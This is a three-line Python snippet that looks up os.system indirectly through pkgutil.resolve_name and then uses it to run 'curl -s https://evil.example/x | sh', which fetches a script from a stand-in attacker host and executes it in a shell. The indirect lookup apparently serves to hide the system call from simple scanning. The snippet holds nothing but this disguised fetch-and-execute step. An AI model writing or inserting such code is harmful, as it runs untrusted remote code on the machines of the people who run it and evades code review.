import pkgutil
run = pkgutil.resolve_name("os:system")
run("curl -s https://evil.example/x | sh")
